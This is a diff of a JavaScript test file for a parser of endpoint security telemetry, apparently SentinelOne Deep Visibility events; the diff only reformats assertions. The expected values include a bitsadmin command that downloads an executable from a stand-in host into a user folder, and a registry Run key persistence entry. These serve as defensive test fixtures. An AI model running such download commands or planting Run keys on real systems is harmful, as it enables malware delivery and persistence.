@@ -19,9 +19,16 @@ describe('s1-api (DV query API camelCase)', () => {
 		expect(ev.agentId).toBe('agent-api-1');
 		expect(ev.time).toBe(Date.UTC(2024, 4, 1, 10, 0, 0, 123));
 		expect(ev.actor).toMatchObject({name: 'cmd.exe', pid: 6000});
-		expect(ev.target.process).toMatchObject({name: 'bitsadmin.exe', pid: 6100, image: 'C:\\Windows\\System32\\bitsadmin.exe', sha1: 'c'.repeat(40)});
+		expect(ev.target.process).toMatchObject({
+			name: 'bitsadmin.exe',
+			pid: 6100,
+			image: 'C:\\Windows\\System32\\bitsadmin.exe',
+			sha1: 'c'.repeat(40),
+		});
 		expect(ev.user).toBe('CORP\\alice');
-		expect(ev.summary).toBe('cmd.exe -> bitsadmin.exe /transfer /Download /priority Foreground https://example.test/a.exe C:\\Users\\alice\\a.exe');
+		expect(ev.summary).toBe(
+			'cmd.exe -> bitsadmin.exe /transfer /Download /priority Foreground https://example.test/a.exe C:\\Users\\alice\\a.exe',
+		);
 	});
 
 	it('dns', () => {
@@ -33,7 +40,10 @@ describe('s1-api (DV query API camelCase)', () => {
 	it('registry path with HKLM hive', () => {
 		const ev = one(API_REGISTRY);
 		expect(ev.category).toBe('Registry Value Modified');
-		expect(ev.target.registry).toMatchObject({key: 'HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\updater', value: 'updater'});
+		expect(ev.target.registry).toMatchObject({
+			key: 'HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\updater',
+			value: 'updater',
+		});
 	});
 
 	it('login on linux', () => {
